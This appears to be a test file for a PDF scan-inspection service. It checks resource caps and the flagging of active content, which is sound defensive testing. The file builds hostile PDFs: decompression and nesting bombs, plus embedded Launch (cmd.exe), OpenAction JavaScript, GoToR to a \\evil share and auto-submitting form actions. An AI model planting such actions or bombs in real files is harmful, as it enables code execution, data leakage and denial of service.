// Every PDF step runs in a process of its own under CPU and memory caps; a
// file past them is flagged and decides nothing. Active content is named for
// reviewers and the pages are still read. The PDFs are built here.
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createOcrPool, inspectScan, type OcrPool } from "../src/index.js";
import { pdfNestingDepth } from "../src/pdf-structure.js";
import { materials } from "../../../test/support/hostile.js";
import { deeplyNested, manyTinyPages, pdfWithImage, textLayerBomb } from "./pdf-bombs.js";

const file = (name: string, content: Buffer) => ({ name, type: "pdf" as const, content });
// Small caps keep the test quick; the mechanism is the one the defaults use.
const tight = { pdfCpuSeconds: 10, pdfMemoryMb: 256 };

describe("PDF steps under caps", () => {
  let ocr: OcrPool;
  let page: { jpeg: Buffer; width: number; height: number };
  beforeAll(async () => {
    ocr = await createOcrPool();
    const jpeg = await sharp({ create: { width: 620, height: 877, channels: 3, background: "white" } })
      .composite([{ input: Buffer.from('<svg width="620" height="877"><text x="60" y="120" font-size="40">申报书</text></svg>') }])
      .jpeg()
      .toBuffer();
    page = { jpeg, width: 620, height: 877 };
  });
  afterAll(() => ocr.close());

  it("a text layer that inflates to hundreds of MB is stopped at the memory cap: flagged, nothing decided", async () => {
    const pdf = await textLayerBomb(300);
    expect(pdf.length).toBeLessThan(1 << 20);
    // The CPU caps far off: near its heap limit the step spends CPU in the collector, and on a busy machine that cap could come first.
    const r = await inspectScan([file("bomb.pdf", pdf)], { ocr, limits: { ...tight, pdfCpuSeconds: 120, pdfTotalCpuSeconds: 120 } });
    expect(r.flags).toEqual([expect.objectContaining({ code: "unreadable-attachment", reason: "too-complex", file: "bomb.pdf", detail: expect.stringMatching(/内存超过256 MB/) })]);
    expect(r.pagesRead).toBe(0);
    expect(r.unread).toEqual([{ page: 1, reason: "undecodable" }]);
    expect(r.signature.outcome).toBe("undecided");
    expect(r.seal.outcome).toBe("undecided");
  }, 120_000);

  it("the same step is stopped at the CPU cap when that comes first", async () => {
    const r = await inspectScan([file("bomb.pdf", await textLayerBomb(300))], { ocr, limits: { pdfCpuSeconds: 1, pdfMemoryMb: 4096 } });
    expect(r.flags[0]?.detail).toMatch(/CPU时间超过1秒/);
    expect(r.signature.outcome).toBe("undecided");
  }, 120_000);

  it("and all the steps of one PDF together are stopped at the total CPU cap", async () => {
    const r = await inspectScan([file("bomb.pdf", await textLayerBomb(300))], { ocr, limits: { pdfCpuSeconds: 100, pdfTotalCpuSeconds: 1, pdfMemoryMb: 4096 } });
    expect(r.flags[0]?.detail).toMatch(/累计CPU时间超过1秒/);
  }, 120_000);

  it("a copy given no OCR budget is not opened at all, and decides nothing", async () => {
    const r = await inspectScan([file("bomb.pdf", await textLayerBomb(300))], { ocr, limits: { ocrMegapixels: 0 } });
    expect(r).toMatchObject({ readable: false, pages: 0, flags: [] });
    expect(r.signature).toMatchObject({ outcome: "undecided", reason: "budget-spent" });
  });

  it("20,000 tiny pages: refused by the page cap with a clear flag, no page read", async () => {
    const r = await inspectScan([file("tiny.pdf", manyTinyPages(20_000))], { ocr });
    expect(r.flags).toEqual([expect.objectContaining({ code: "unreadable-attachment", reason: "too-many-pages", detail: expect.stringMatching(/20000页/) })]);
    expect(r.readable).toBe(false);
    expect(r.signature.outcome).toBe("undecided");
  }, 120_000);

  it("objects nested 200,000 deep: flagged, not a crash", async () => {
    const r = await inspectScan([file("nested.pdf", deeplyNested(200_000))], { ocr, limits: tight });
    expect(r.flags).toEqual([expect.objectContaining({ code: "unreadable-attachment", reason: "too-complex", detail: "PDF objects nested 200000 deep" })]);
    expect(r.readable).toBe(false);
    expect(r.signature.outcome).toBe("undecided");
  }, 120_000);

  it("the nesting of a real scan is a few levels, far below where a PDF is refused", async () => {
    expect(pdfNestingDepth((await materials()).pdf)).toBeLessThan(20);
    expect(pdfNestingDepth(deeplyNested(200_000))).toBe(200_000);
  });

  const actions: [string, Parameters<typeof pdfWithImage>[3], RegExp][] = [
    ["OpenAction JavaScript", { catalog: "/OpenAction 6 0 R", extra: ["<</S/JavaScript/JS(app.alert\\(1\\))>>"] }, /JavaScript.*打开文件时自动执行/],
    ["Launch", { pageExtra: "/Annots[6 0 R]", extra: ["<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/Launch/F(cmd.exe)>>>>"] }, /Launch/],
    ["URI on opening", { catalog: "/OpenAction<</S/URI/URI(https://pay.example.cn)>>" }, /URI.*打开文件时自动执行/],
    ["URI to a file share", { pageExtra: "/Annots[6 0 R]", extra: ["<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(file://server/share/x.exe)>>>>"] }, /URI/],
    ["GoToR", { pageExtra: "/Annots[6 0 R]", extra: ["<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>>>"] }, /GoToR/],
    ["SubmitForm", { pageExtra: "/AA<</O 6 0 R>>", extra: ["<</S/SubmitForm/F<</FS/URL/F(https://collect.example)>>>>"] }, /SubmitForm.*打开文件时自动执行/],
  ];
  for (const [name, opts, words] of actions) {
    it(`${name}: flagged for reviewers in Chinese, and the page still read`, async () => {
      const r = await inspectScan([file("scan.pdf", pdfWithImage(page.jpeg, page.width, page.height, opts))], { ocr });
      expect(r.flags).toEqual([expect.objectContaining({ code: "suspicious-attachment", file: "scan.pdf", reason: "active-content", detail: expect.stringMatching(words) })]);
      expect(r.pagesRead).toBe(1);
    });
  }

  it("a clickable link to a web page is ordinary: no flag", async () => {
    const pdf = pdfWithImage(page.jpeg, page.width, page.height, { pageExtra: "/Annots[6 0 R]", extra: ["<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://www.cast.org.cn)>>>>"] });
    const r = await inspectScan([file("scan.pdf", pdf)], { ocr });
    expect(r.flags).toEqual([]);
    expect(r.pagesRead).toBe(1);
  });
});
